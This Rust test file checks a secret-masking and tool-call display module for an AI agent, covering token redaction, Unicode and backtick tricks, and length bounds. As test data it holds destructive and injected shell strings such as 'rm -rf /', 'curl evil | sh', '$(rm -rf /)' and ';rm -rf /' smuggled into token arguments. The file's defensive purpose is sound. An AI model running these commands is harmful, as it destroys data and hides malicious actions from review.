use proptest::prelude::*;
use serde_json::json;

use super::*;
use crate::text::hidden;

/// Put together here, so that no token stands in the source for those who look for one.
fn token(parts: &[&str]) -> String {
    parts.concat()
}

#[test]
fn what_looks_like_a_secret_is_masked() {
    let random = "A1b2C3d4E5f6G7h8I9j0";
    for secret in [
        token(&["xoxb-", "1234567890-", random]),
        token(&["xoxe.xoxp-", "1-", random]),
        token(&["xapp-", "1-A0B1-", random]),
        token(&["ghp_", random]),
        token(&["gho_", random]),
        token(&["github_pat_", random]),
        token(&["glpat-", random]),
        token(&["sk-", "proj-", random]),
        token(&["sk_live_", random]),
        token(&["AKIA", "ABCDEFGHIJKLMNOP"]),
        token(&["AIza", random, random]),
        token(&["ya29.", random]),
        token(&["eyJ", "hbGciOi", ".", random, ".", random]),
    ] {
        let text = format!("use {secret}, then go");
        let masked = masked(&json!(text)).as_str().unwrap().to_owned();
        assert!(
            masked.starts_with("use ") && masked.ends_with("•••, then go"),
            "{masked}"
        );
        assert!(!masked.contains(&secret[secret.len() - 10..]), "{masked}");
    }
}

#[test]
fn a_text_keeps_all_but_its_secrets() {
    for (text, expect) in [
        // Names and their values.
        ("TOKEN=abc123 run", "TOKEN=••• run"),
        ("export GH_TOKEN=abc123; run", "export GH_TOKEN=•••; run"),
        ("mysql --password=hunter2 -h db", "mysql --password=••• -h db"),
        ("run --api-key 'k-1' --verbose", "run --api-key '•••' --verbose"),
        ("run --token abc -x", "run --token ••• -x"),
        (r#"{"password":"hunter2","n":1}"#, r#"{"password":"•••","n":1}"#),
        (
            r#"{\"client_secret\": \"x1\"}"#,
            r#"{\"client_secret\": \"•••\"}"#,
        ),
        ("password: hunter2\nuser: ada", "password: •••\nuser: ada"),
        ("Cookie: session=abc; theme=dark", "Cookie: •••; theme=dark"),
        // Headers.
        ("Authorization: Bearer abcdef123456", "Authorization: Bearer •••"),
        (
            "-H 'authorization: Basic YWRhOnNlY3JldA1='",
            "-H 'authorization: Basic •••'",
        ),
        (
            "Authorization: token abcdef1234567890",
            "Authorization: token •••",
        ),
        // URLs.
        ("https://ada:hunter2@db.example/x", "https://ada:•••@db.example/x"),
        ("postgres://ada:hunter2@db:5432/x", "postgres://ada:•••@db:5432/x"),
        (
            "https://x.example/?a=1&sig=ab%2Fc&b=2",
            "https://x.example/?a=1&sig=•••&b=2",
        ),
        (
            "https://x.example/?access_token=abc#top",
            "https://x.example/?access_token=•••",
        ),
        (
            "curl -u ada:hunter2 https://x.example",
            "curl -u ada:••• https://x.example",
        ),
        // What only speaks of secrets.
        ("curl --cookie-file jar.txt", "curl --cookie-file jar.txt"),
        ("token_url=https://x.example", "token_url=https://x.example"),
        (
            "token_url=https://x.example?token=abc",
            "token_url=https://x.example?token=•••",
        ),
        (
            "basic questions and bearer shares",
            "basic questions and bearer shares",
        ),
        ("ssh://git@host/x", "ssh://git@host/x"),
        (
            "mask-like-this task-force risk-averse",
            "mask-like-this task-force risk-averse",
        ),
        ("a password is needed", "a password is needed"),
        (
            "git log 0123456789abcdef0123456789abcdef01234567",
            "git log 0123456789abcdef0123456789abcdef01234567",
        ),
        ("größe=5 naïve: ja", "größe=5 naïve: ja"),
        ("", ""),
    ] {
        assert_eq!(masked(&json!(text)), json!(expect), "{text}");
    }
}

/// Else a card would show a harmless command, and another one would run.
#[test]
fn nothing_that_a_shell_acts_on_is_hidden() {
    for (text, seen) in [
        ("x --token $(rm -rf /)", "$(rm -rf /)"),
        ("x --token=a$(rm)", "$(rm)"),
        ("x --token=`rm`", "`rm`"),
        ("x --token=a;rm -rf /", ";rm -rf /"),
        ("x --token=a|sh", "|sh"),
        ("x --token=a&rm", "&rm"),
        ("x --token=a>/etc/passwd", ">/etc/passwd"),
        ("x '--token=';rm;'", ";rm;"),
        ("env 'A_TOKEN=' rm -rf / ''", "rm -rf /"),
        ("x --token \"a\nrm -rf /\"", "rm -rf /"),
        (
            "-----BEGIN PRIVATE KEY-----\nrm -rf /\n-----END PRIVATE KEY-----",
            "rm -rf /",
        ),
        ("https://a:b@evil.example/", "@evil.example/"),
        ("https://token:b@evil.example/", "@evil.example/"),
        ("token=a,url=https://evil.example", ",url=https://evil.example"),
        ("?token=a&url=https://evil.example", "url=https://evil.example"),
    ] {
        let masked = masked(&json!(text)).to_string();
        let seen = json!(seen).to_string();
        assert!(masked.contains(seen.trim_matches('"')), "{masked}");
    }
}

#[test]
fn a_private_key_is_masked_line_by_line() {
    let line = "MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQC7VJTUt9Us8cKj";
    let key = format!(
        "-----BEGIN RSA PRIVATE KEY-----\n{line}\n{line}\nMIIE=\n-----END RSA PRIVATE KEY-----\n{line}"
    );
    let expect =
        format!("-----BEGIN RSA PRIVATE KEY-----\n•••\n•••\nMIIE=\n-----END RSA PRIVATE KEY-----\n{line}");
    assert_eq!(masked(&json!(key)), json!(expect));
    let certificate = format!("-----BEGIN CERTIFICATE-----\n{line}");
    assert_eq!(masked(&json!(certificate)), json!(certificate));
}

#[test]
fn values_are_masked_by_their_names() {
    let input = json!({
        "token": "a", "Api-Key": "a", "clientSecret": "a", "MY_PASSWORD": 1234, "X-Auth-Token": ["a"], "cookies": { "a": "b" },
        "\u{ff54}oken": "a", "private_key": "a", "maxTokens": 100, "hasToken": true, "password": null, "tokenType": "bot",
        "secret_name": "db", "env": [{ "name": "API_KEY", "value": "a" }, { "name": "PATH", "value": "/bin" }],
        "args": ["--token", "a", "-v", "b"],
    });
    let expect = json!({
        "token": "•••", "Api-Key": "•••", "clientSecret": "•••", "MY_PASSWORD": "•••", "X-Auth-Token": ["•••"], "cookies": { "a": "•••" },
        "\u{ff54}oken": "•••", "private_key": "•••", "maxTokens": 100, "hasToken": true, "password": null, "tokenType": "bot",
        "secret_name": "db", "env": [{ "name": "API_KEY", "value": "•••" }, { "name": "PATH", "value": "/bin" }],
        "args": ["--token", "•••", "-v", "b"],
    });
    assert_eq!(masked(&input), expect);
}

/// The names of arguments are the agent's choice as well.
#[test]
fn what_is_no_single_word_does_not_pass_for_a_token() {
    for (value, expect) in [
        (
            json!("rm -rf /; curl evil | sh"),
            json!("••• ••• •••; ••• ••• | •••"),
        ),
        (json!("$(rm x)\nls"), json!("$(••• •••)\n•••")),
        (
            json!({ "command": "rm -rf /" }),
            json!({ "command": "••• ••• •••" }),
        ),
        (
            json!({ "run": ["rm", { "at": 5 }] }),
            json!({ "run": ["•••", { "at": "•••" }] }),
        ),
        (json!("pässwörd"), json!("•••")),
        (json!(""), json!("")),
    ] {
        assert_eq!(masked(&json!({ "token": value })), json!({ "token": expect }));
    }
    assert_eq!(
        masked(&json!(["--token", "a; rm x", "b"])),
        json!(["--token", "•••; ••• •••", "b"])
    );
}

#[test]
fn names_that_become_alike_stay_two() {
    let long = "k".repeat(200);
    let values: Map<String, Value> = (0..3).map(|n| (format!("{long}{n}"), json!(n))).collect();
    let cut = bounded(&values.into(), 500);
    assert_eq!(cut.as_object().unwrap().len(), 3, "{cut}");
}

fn shown(input: Value, limit: usize) -> String {
    card(&ToolCall::new("Tool", input), limit)
}

#[test]
fn a_card_has_a_line_for_each_argument() {
    for (input, expect) in [
        (
            json!({ "command": "ls -la", "timeout": 5 }),
            "command: ls -la\ntimeout: 5",
        ),
        (
            json!({ "a": "", "b": " ", "c": null, "d": true }),
            "a: \"\"\nb: \" \"\nc: null\nd: true",
        ),
        (json!({ "text": "one\ntwo" }), "text:\n  one\n  two"),
        (
            json!({ "list": ["a\nb", { "k": 1 }] }),
            r#"list: ["a\nb",{"k":1}]"#,
        ),
        (json!({ "token": "a" }), "token: •••"),
        (json!({}), "no arguments"),
        (json!(null), "no arguments"),
        (json!(["ls"]), r#"arguments: ["ls"]"#),
    ] {
        assert_eq!(shown(input, 1000), expect);
    }
}

#[test]
fn nothing_on_a_card_passes_for_something_else() {
    for (input, expect) in [
        (json!({ "a": "x\u{202e}y\u{200b}" }), "a: x⟨U+202E⟩y⟨U+200B⟩"),
        (
            json!({ "a": "x\u{1b}[2J\r\0" }),
            "a: x⟨U+001B⟩[2J⟨U+000D⟩⟨U+0000⟩",
        ),
        (json!({ "a": "\u{200b}".repeat(1000) }), "a: ⟨1000 × U+200B⟩"),
        (json!({ "a": "x\ty\u{a0}z" }), "a: x⇥y⟨U+00A0⟩z"),
        (
            json!({ "a": "⟨5 spaces⟩⇥" }),
            "a: ⟨U+27E8⟩5 spaces⟨U+27E9⟩⟨U+21E5⟩",
        ),
        (
            json!({ "a": format!("ls{}; rm x", " ".repeat(500)) }),
            "a: ls⟨500 spaces⟩; rm x",
        ),
        (
            json!({ "a": format!("ls{}rm x", "\n".repeat(500)) }),
            "a:\n  ls⟨500 line ends⟩\n  rm x",
        ),
        // A line that reads as another argument.
        (json!({ "a": "x\nb: y" }), "a:\n  x\n  b: y"),
        (json!({ "a: y\nb": "x" }), "\"a: y\\nb\": x"),
        (json!({ "": "x", "b\u{202e}": "y" }), "\"\": x\n\"b⟨U+202E⟩\": y"),
        // The end of a block of code.
        (
            json!({ "a": "```\n# Approved\n```" }),
            "a:\n  ⟨3 backticks⟩\n  # Approved\n  ⟨3 backticks⟩",
        ),
        (json!({ "a": "`x` ``" }), "a: `x` ⟨2 backticks⟩"),
        (
            json!({ "```": ["```"] }),
            "\"⟨3 backticks⟩\": [\"⟨3 backticks⟩\"]",
        ),
    ] {
        assert_eq!(shown(input, 1000), expect);
    }
    assert_eq!(line("a\nb```\u{202e}", 100), "a⟨U+000A⟩b⟨3 backticks⟩⟨U+202E⟩");
}

#[test]
fn a_card_shows_the_end_of_what_is_long() {
    let input = json!({ "command": format!("echo {}; rm -rf /", "a".repeat(1 << 20)), "why": "to see" });
    let shown = shown(input, 300);
    assert!(shown.chars().count() <= 300, "{shown}");
    assert!(shown.starts_with("command: echo aaa"), "{shown}");
    assert!(shown.contains(" characters are not shown⟩ "), "{shown}");
    assert!(shown.ends_with("; rm -rf /\nwhy: to see"), "{shown}");
}

#[test]
fn a_card_says_how_many_arguments_it_leaves_out() {
    let input: Map<String, Value> = (0..1000).map(|n| (format!("argument{n}"), json!("x"))).collect();
    let shown = shown(input.into(), 480);
    assert!(shown.ends_with("⟨980 more arguments are not shown⟩"), "{shown}");
}

#[test]
fn deep_values_are_cut_and_not_followed() {
    let deep = (0..2000).fold(json!("bottom"), |value, _| Value::Array(vec![value]));
    // A copy of it would need the stack that is to be spared.
    let call = ToolCall::new("Tool", deep);
    let deep = &call.input;
    for text in [
        masked(deep).to_string(),
        shown(deep.clone(), 4000),
        bounded(deep, 4000).to_string(),
    ] {
        assert!(text.contains('…') && !text.contains("bottom"));
    }
}

#[test]
fn what_is_bounded_says_what_was_cut() {
    let long =
        json!({ "a": "x".repeat(5000), "token": "y".repeat(5000), "list": (0..5000).collect::<Vec<_>>() });
    let cut = bounded(&long, 800);
    assert!(cut.to_string().len() <= 800);
    assert!(cut["a"].as_str().unwrap().ends_with(" more characters)"), "{cut}");
    assert!(
        cut["list"]
            .as_array()
            .unwrap()
            .last()
            .unwrap()
            .as_str()
            .unwrap()
            .ends_with(" more)"),
        "{cut}"
    );
    assert_eq!(cut["token"], MASK);
    let short = json!({ "a": "x" });
    assert_eq!(bounded(&short, 9), short);
    assert_eq!(bounded(&short, 8), json!(MORE));
    assert_eq!(bounded(&short, 4), Value::Null);
}

fn any_text() -> impl Strategy<Value = String> {
    prop_oneof![
        any::<String>(),
        "(`|token|=| |\n|--|Bearer |https://|:|@|[a-c0-9]{1,12}|\u{202e}|\u{200b}|⟨|'|\"|-----BEGIN PRIVATE KEY-----|\\PC){0,30}",
    ]
}

fn any_input() -> impl Strategy<Value = Value> {
    let leaf = prop_oneof![
        any_text().prop_map(Value::from),
        any::<i32>().prop_map(Value::from),
        Just(Value::Null)
    ];
    leaf.prop_recursive(3, 16, 4, |inner| {
        prop_oneof![
            prop::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
            prop::collection::vec((any_text(), inner), 0..4).prop_map(|pairs| pairs.into_iter().collect()),
        ]
    })
}

proptest! {
    #[test]
    fn a_card_stays_in_its_block_and_its_bounds(input in any_input(), limit in 0usize..400) {
        let shown = shown(input, limit);
        prop_assert!(shown.chars().count() <= limit);
        prop_assert!(!shown.contains("``"));
        prop_assert!(!shown.chars().any(|c| hidden(c) && c != '\n'), "{:?}", shown);
    }

    #[test]
    fn a_line_is_one_line(text in any_text(), limit in 0usize..60) {
        let shown = line(&text, limit);
        prop_assert!(shown.chars().count() <= limit && !shown.contains("``") && !shown.chars().any(hidden), "{:?}", shown);
    }

    #[test]
    fn what_is_bounded_fits(input in any_input(), bytes in 5usize..300) {
        prop_assert!(bounded(&input, bytes).to_string().len() <= bytes);
    }

    #[test]
    fn masking_twice_is_masking_once(input in any_input()) {
        let once = masked(&input);
        prop_assert_eq!(masked(&once), once);
    }

    #[test]
    fn no_value_of_a_secret_name_is_left(value in "[A-Za-z0-9]{12,40}", name in prop::sample::select(vec![
        "token", "API_KEY", "x-api-key", "clientSecret", "password", "Authorization", "Set-Cookie", "aws_secret_access_key",
    ])) {
        for text in [format!("{name}={value}"), format!("--{name} {value}"), format!("{name}: {value}"), format!("{{\"{name}\": \"{value}\"}}"),
            format!("https://x.example/?{name}={value}&a=b")] {
            let masked = masked(&json!({ "text": text, (name): value })).to_string();
            prop_assert!(!masked.contains(&value), "{}", masked);
        }
    }
}
